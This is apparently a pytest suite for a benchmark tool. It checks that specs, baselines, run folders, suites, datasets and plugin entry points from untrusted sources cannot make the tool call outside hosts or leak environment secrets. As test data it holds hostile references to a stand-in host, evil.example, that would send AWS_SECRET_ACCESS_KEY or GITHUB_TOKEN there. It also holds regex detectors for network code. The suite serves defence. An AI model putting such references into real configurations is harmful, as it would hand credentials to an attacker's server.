"""Every way in for a file of somebody else: no secret of the environment leaves, and nobody is called.

Each connection that the client attempts, to whatever host, is noted and ends at a server of the test, so what would be sent is
seen whole. What is allowed on purpose is asked as well, to show that the server would have seen it.
"""

from __future__ import annotations

import importlib
import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas  # noqa: F401 - pytester unloads what is imported after it, and to pyarrow a second pandas is a stranger.
import pytest
import yaml
from latentbench.analysis.gate.baseline import read_baseline, write_baseline
from latentbench.analysis.gate.gate import freeze, gate
from latentbench.analysis.gate.gate_report import GateSettings
from latentbench.analysis.qualify.qualify import QualifyRequest, qualify
from latentbench.cli import app
from latentbench.judges.reference import load_judge
from latentbench.kernel.errors import BenchError, SpecError
from latentbench.runs.run import resume, start
from rich.console import Console
from typer.testing import CliRunner

from tests.analysis.test_gate_plugin import pytest_with
from tests.builders.bindings import bound
from tests.builders.foreign import SECRETS, Foreign, listening
from tests.builders.signed_runs import signed

pytest_plugins = ["pytester"]
QUIET = Console(quiet=True)
PACKAGE = Path(__file__).parents[2] / "bench" / "latentbench"
THERE = "HERE"
"""Stands for the address of the test's server on this machine."""

HOSTILE = {
    "a key to a host": "openai:m?base_url=https://evil.example/v1&key_env=AWS_SECRET_ACCESS_KEY",
    "a key to a host over http": "openai:m?base_url=http://evil.example/v1&key_env=AWS_SECRET_ACCESS_KEY",
    "a host": "openai:m?base_url=https://evil.example/v1",
    "a host over http": "openai:m?base_url=http://evil.example/v1",
    "a key to this machine": f"openai:m?base_url={THERE}&key_env=AWS_SECRET_ACCESS_KEY",
    "vectors": "embed:m?base_url=https://evil.example/v1&key_env=GITHUB_TOKEN",
}
"""What no file gets, whatever reads it."""
UNTOLD = {**HOSTILE, "this machine": f"openai:m?base_url={THERE}", "OpenAI at the user's cost": "openai:m"}
"""What no file gets from a command that runs where nobody looks."""

SPEC: dict[str, Any] = {
    "name": "t",
    "suite": "planted-1",
    "limit": 2,
    "explainers": [{"use": "planted", "label": "truth"}],
    "scorers": [{"use": "detection", "preset": "single", "params": {"positives": 2, "negatives": 2, "simulate": "never"}}],
    "judges": [{"use": "mock:oracle?can=chat", "label": "j"}],
    "max_failures": 1.0,
}  # fmt: skip


@pytest.fixture
def foreign(monkeypatch: pytest.MonkeyPatch) -> Iterator[Foreign]:
    with listening(monkeypatch) as found:
        yield found


def write(path: Path, **changes: Any) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(yaml.safe_dump({**SPEC, **changes}), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def finished(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run of this machine."""
    folder = tmp_path_factory.mktemp("finished")
    return start(write(folder / "spec.yaml"), folder / "run", folder / "c.sqlite", QUIET)[0]


@pytest.fixture
def run(finished: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(finished, tmp_path / "theirs"))


@pytest.fixture(scope="module")
def frozen(finished: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("frozen") / "b.json"
    write_baseline(freeze(finished), path)
    return path


def named(reference: str, foreign: Foreign) -> str:
    return reference.replace(THERE, foreign.url)


def rewritten(run: Path, reference: str) -> Path:
    """A run folder that names another judge, in every file that names one."""
    spec = yaml.safe_load((run / "spec.yaml").read_text(encoding="utf-8"))
    spec["judges"][0]["use"] = reference
    (run / "spec.yaml").write_text(yaml.safe_dump(spec), encoding="utf-8")
    record = json.loads((run / "run.json").read_text(encoding="utf-8"))
    record["spec"]["judges"][0]["use"] = reference
    (run / "run.json").write_text(json.dumps(record), encoding="utf-8")
    return signed(run)  # whoever changes a record knows how its digest is made


def nothing_left(foreign: Foreign, folder: Path) -> None:
    """Nobody was called, and no file holds a secret."""
    assert foreign.silent, foreign.calls
    for path in (p for p in folder.rglob("*") if p.is_file()):
        data = path.read_bytes()
        assert not any(value.encode() in data for value in SECRETS.values()), path


PLACES: dict[str, Any] = {
    "a judge": lambda use: {"judges": [{"use": use, "label": "j"}]},
    "a judge without a label": lambda use: {"judges": [use]},
    "a model that explains": lambda use: {"explainers": [{"use": "llm", "model": use}]},
    "a member of a panel": lambda use: {
        "judges": [{"use": "panel:", "label": "jury", "params": {"members": ["mock:oracle", use]}}]
    },
    "a writer of a subject": lambda use: {
        "judges": ["subject:planted-1?writer=" + use.replace("%", "%25").replace("?", "%3F").replace("&", "%26")]
    },
}


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("way", HOSTILE)
def test_a_spec(way: str, place: str, foreign: Foreign, tmp_path: Path) -> None:
    spec = write(tmp_path / "spec.yaml", **PLACES[place](named(HOSTILE[way], foreign)))
    with pytest.raises(SpecError):
        start(spec, tmp_path / "run", tmp_path / "c.sqlite", QUIET)
    assert not (tmp_path / "run").exists()
    nothing_left(foreign, tmp_path)


def test_a_spec_may_ask_this_machine_and_takes_no_key_there(foreign: Foreign, tmp_path: Path) -> None:
    spec = write(tmp_path / "spec.yaml", judges=[f"openai:m?base_url={foreign.url}"])
    start(spec, tmp_path / "run", tmp_path / "c.sqlite", QUIET)
    assert foreign.heads
    assert foreign.secrets == set()
    assert "authorization" not in "\n".join(foreign.heads).lower()


@pytest.mark.parametrize("way", UNTOLD)
def test_a_baseline(way: str, foreign: Foreign, frozen: Path, tmp_path: Path) -> None:
    base = read_baseline(frozen)
    spec = {**base.spec, "judges": [{"use": named(UNTOLD[way], foreign), "label": "j"}]}
    write_baseline(base.model_copy(update={"spec": spec}), tmp_path / "b.json")
    with pytest.raises(SpecError, match="--allow-endpoints|not bound|no address"):
        gate(None, tmp_path / "b.json", GateSettings(), QUIET, out=tmp_path / "run", cache=tmp_path / "c.sqlite")
    nothing_left(foreign, tmp_path)


@pytest.mark.parametrize("way", ["a key to a host", "this machine"])
def test_a_baseline_in_pytest(
    way: str, foreign: Foreign, frozen: Path, tmp_path: Path, pytester: pytest.Pytester
) -> None:
    base = read_baseline(frozen)
    spec = {**base.spec, "judges": [{"use": named(UNTOLD[way], foreign), "label": "j"}]}
    write_baseline(base.model_copy(update={"spec": spec}), tmp_path / "b.json")
    done = pytest_with(pytester, "--latentbench-baseline", tmp_path / "b.json")
    assert set(done.parseoutcomes()) == {"errors"}
    assert re.search("--latentbench-allow-endpoints|not bound", str(done.stdout))
    nothing_left(foreign, tmp_path)


@pytest.mark.parametrize("way", UNTOLD)
def test_a_spec_that_is_handed_to_the_gate(way: str, foreign: Foreign, frozen: Path, tmp_path: Path) -> None:
    spec = write(tmp_path / "spec.yaml", judges=[{"use": named(UNTOLD[way], foreign), "label": "j"}])
    words = ["gate", str(spec), "--baseline", str(frozen), "--out", str(tmp_path / "run")]
    done = CliRunner().invoke(app, words)
    assert isinstance(done.exception, SpecError)
    nothing_left(foreign, tmp_path)


@pytest.mark.parametrize("way", UNTOLD)
def test_a_run_folder(way: str, foreign: Foreign, frozen: Path, run: Path, tmp_path: Path) -> None:
    rewritten(run, named(UNTOLD[way], foreign))
    with pytest.raises(SpecError):
        gate(run, frozen, GateSettings(), QUIET)
    with pytest.raises(SpecError):
        freeze(run)
    for words in (["report", str(run)], ["leaderboard", str(run)], ["compare", str(run), str(run)]):
        done = CliRunner().invoke(app, words)
        assert done.exception is None or isinstance(done.exception, BenchError | SystemExit), (words, done.exception)
    if way in HOSTILE:
        for go_on in (lambda: resume(run, tmp_path / "c.sqlite", QUIET), lambda: freeze(run, allow_endpoints=True)):
            with pytest.raises(SpecError):
                go_on()
    nothing_left(foreign, tmp_path)


def test_the_gate_asks_what_it_was_told_to_and_takes_no_key_there(
    foreign: Foreign, frozen: Path, run: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    rewritten(run, f"openai:m?base_url={foreign.url}")
    gate(run, frozen, GateSettings(), QUIET, allow_endpoints=True)
    asked = len(foreign.heads)
    assert asked
    freeze(run, allow_endpoints=True)
    assert len(foreign.heads) > asked
    bound({"127.0.0.1": {}}, tmp_path, monkeypatch)
    asked = len(foreign.heads)
    gate(run, frozen, GateSettings(), QUIET)
    assert len(foreign.heads) > asked
    assert foreign.secrets == set()


@pytest.mark.parametrize("way", HOSTILE)
def test_a_judge_to_qualify(way: str, foreign: Foreign, tmp_path: Path) -> None:
    with pytest.raises(SpecError):
        qualify(QualifyRequest(named(HOSTILE[way], foreign), "detection", limit=1), tmp_path, None, QUIET)
    nothing_left(foreign, tmp_path)


@pytest.mark.parametrize("model", ["https://evil.example/model", "//evil.example/model", "http:evil.example"])
def test_a_suite(model: str, foreign: Foreign, tmp_path: Path) -> None:
    """A manifest and a recipe that name addresses, under a judge that runs the suite's subject."""
    suite = Path(shutil.copytree(PACKAGE.parents[1] / "tasks" / "suites" / "planted-1", tmp_path / "suite"))
    manifest = json.loads((suite / "manifest.json").read_text(encoding="utf-8"))
    extra = {"subject": {"model": model}, "judge": "openai:m?base_url=https://evil.example/v1", "url": model}
    (suite / "manifest.json").write_text(json.dumps({**manifest, **extra}), encoding="utf-8")
    recipe = {"name": "x", "subject": {"model": model}, "coders": [], "corpus": {"path": model}}
    (suite / "recipe.yaml").write_text(yaml.safe_dump(recipe), encoding="utf-8")
    with pytest.raises(BenchError):
        load_judge(f"subject:{suite}?writer=mock:label")
    spec = write(tmp_path / "spec.yaml", suite=str(suite))
    done = CliRunner().invoke(app, ["run", str(spec), "--out", str(tmp_path / "run"), "--no-track"])
    assert done.exception is None or isinstance(done.exception, BenchError | SystemExit)
    nothing_left(foreign, tmp_path)


def test_a_corpus_is_a_file_or_a_dataset_of_the_hub(foreign: Foreign, tmp_path: Path) -> None:
    from latentbench.corpora.corpus_spec import HfCorpus
    from latentbench.kernel.config import validate

    for given in (
        {"dataset": "json", "data_files": "https://evil.example/x.jsonl"},
        {"dataset": "org/name", "data_files": ["a.jsonl", "http://evil.example/x.jsonl"]},
        {"dataset": "org/name", "data_files": "zip://x::ftp://evil.example/x"},
        {"dataset": "https://evil.example/x"},
    ):
        with pytest.raises(SpecError, match="is an address"):
            validate(HfCorpus, given, "corpus")
    nothing_left(foreign, tmp_path)


def test_a_folder_of_data_calls_nobody(foreign: Foreign, tmp_path: Path) -> None:
    """The library calls what the settings of a folder, or a picture in a row, name."""
    import pyarrow as pa
    import pyarrow.parquet as pq
    from latentbench.corpora.corpus_spec import HfCorpus
    from latentbench.corpora.hub import stream

    address = f"{foreign.url}/rows.jsonl"
    folder = tmp_path / "data"
    folder.mkdir()
    (folder / "rows.jsonl").write_text('{"text": "here"}\n', encoding="utf-8")
    (folder / "README.md").write_text("---\nlicense_link: https://example.org\n---\n# Data\n", encoding="utf-8")
    assert [row["text"] for _, row in stream(HfCorpus(dataset=str(folder)))] == ["here"]
    for settings in (
        f"- data_files: {address}",
        f"- {{config_name: a, data_files: [{{split: train, path: '{address}'}}]}}",
    ):
        for name, text in (
            ("README.md", f"---\nconfigs:\n{settings}\n---\n"),
            (".huggingface.yaml", f"configs:\n{settings}\n"),
        ):
            (folder / "README.md").unlink(missing_ok=True)
            (folder / name).write_text(text, encoding="utf-8")
            with pytest.raises(BenchError, match="names an address"):
                list(stream(HfCorpus(dataset=str(folder))))
            (folder / name).unlink()
    kinds = {"text": {"dtype": "string", "_type": "Value"}, "picture": {"_type": "Image"}}
    picture = pa.array([{"bytes": None, "path": address}], pa.struct([("bytes", pa.binary()), ("path", pa.string())]))
    table = pa.table({"text": ["here"], "picture": picture})
    told = {"huggingface": json.dumps({"info": {"features": kinds}})}
    pq.write_table(table.replace_schema_metadata(told), tmp_path / "rows.parquet")
    rows = stream(HfCorpus(dataset="parquet", data_files=(str(tmp_path / "rows.parquet"),)))
    assert [row["text"] for _, row in rows] == ["here"]
    nothing_left(foreign, tmp_path)


@pytest.mark.parametrize("way", HOSTILE)
def test_a_results_row(way: str, foreign: Foreign, run: Path, tmp_path: Path) -> None:
    """A row and a table name a judge; ranking and rendering ask nobody who it is."""
    reference = named(HOSTILE[way], foreign)
    root = tmp_path / "board"
    assert CliRunner().invoke(app, ["leaderboard", str(run), "--submit", str(root)]).exception is None
    (path,) = (root / "results").glob("*.json")
    from latentbench.kernel.identity import digest

    data = json.loads(path.read_text(encoding="utf-8").replace('"label": "j"', f'"label": {json.dumps(reference)}'))
    assert reference in json.dumps(data)
    path.write_text(json.dumps({**data, "digest": digest(data["rows"])}), encoding="utf-8")
    done = CliRunner().invoke(app, ["leaderboard", "--render", str(root)])
    assert done.exception is None, done.exception
    assert "evil.example" in (root / "README.md").read_text(encoding="utf-8") or way == "a key to this machine"
    nothing_left(foreign, tmp_path)


def installed(place: Path, points: str, monkeypatch: pytest.MonkeyPatch) -> None:
    info = place / "site" / "odd_judges-1.0.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: odd-judges\nVersion: 1.0\n", encoding="utf-8")
    (info / "entry_points.txt").write_text(points, encoding="utf-8")
    monkeypatch.syspath_prepend(str(place / "site"))
    importlib.invalidate_caches()


@pytest.mark.parametrize("way", HOSTILE)
def test_entry_points(way: str, foreign: Foreign, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Another name for the same class is held to the same list; metadata alone runs nothing."""
    points = (
        "[latentbench.judges]\n"
        "other = latentbench.judges.remote.openai:OpenAIJudge\n"
        "vectors = latentbench.judges.embed:EmbedJudge\n"
        "https = https://evil.example:8080/v1\n"
        "nowhere = no_such_module:Judge\n"
    )
    installed(tmp_path, points, monkeypatch)
    provider, _, rest = named(HOSTILE[way], foreign).partition(":")
    for reference in (
        f"{'vectors' if provider == 'embed' else 'other'}:{rest}",
        "https://evil.example/v1",
        "nowhere:m",
    ):
        with pytest.raises(SpecError):
            load_judge(reference)
    assert CliRunner().invoke(app, ["list", "judges"]).exit_code in (0, 2)
    nothing_left(foreign, tmp_path)


def test_an_entry_point_that_takes_a_name_is_refused(
    foreign: Foreign, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    installed(tmp_path, "[latentbench.judges]\nopenai = odd_judges:Judge\n", monkeypatch)
    with pytest.raises(SpecError, match="takes the built-in judge name"):
        load_judge("openai:m")
    nothing_left(foreign, tmp_path)


def test_only_one_room_calls_anybody() -> None:
    """A second way out would have to be guarded, too. The hub, the package index and MLflow are called by their own clients."""
    out = re.compile(
        r"^\s*(?:import|from) (?:openai|httpx|httpcore|requests|aiohttp|http\.client|socket)\b", re.MULTILINE
    )
    calling = {p.relative_to(PACKAGE).as_posix() for p in PACKAGE.rglob("*.py") if out.search(p.read_text("utf-8"))}
    # These ask for the name of this machine.
    named = {"tuning/storage.py", "kernel/processes.py"}
    # This greets the address that a person gave as `--ray`, before Ray itself is told to go there.
    greeted = {"kernel/cluster_address.py"}
    assert {p for p in calling if not p.startswith("judges/remote/")} <= named | greeted
    assert {p.relative_to(PACKAGE).as_posix() for p in PACKAGE.rglob("*.py") if "urlopen" in p.read_text("utf-8")} <= {
        "models/packaged.py"
    }


def test_the_environment_is_read_in_few_places() -> None:
    """A value of the environment that a file names is read in one place, which the user's list guards."""
    read = re.compile(r"environ\.get\(([^)\"']*)\)|environ\[([^\]\"']*)\]|getenv\(([^)\"']*)\)")
    found = {
        p.relative_to(PACKAGE).as_posix(): sorted({next(filter(None, m)) for m in read.findall(p.read_text("utf-8"))})
        for p in PACKAGE.rglob("*.py")
        if read.search(p.read_text("utf-8"))
    }
    by_a_file = {path: names for path, names in found.items() if any(not n.isupper() for n in names)}
    assert set(by_a_file) <= {
        "judges/remote/binding.py", "judges/remote/endpoint.py", "judges/remote/wire.py", "cli/endpoint_command.py",
        "tracking/mlflow_settings.py",
    }, by_a_file  # fmt: skip
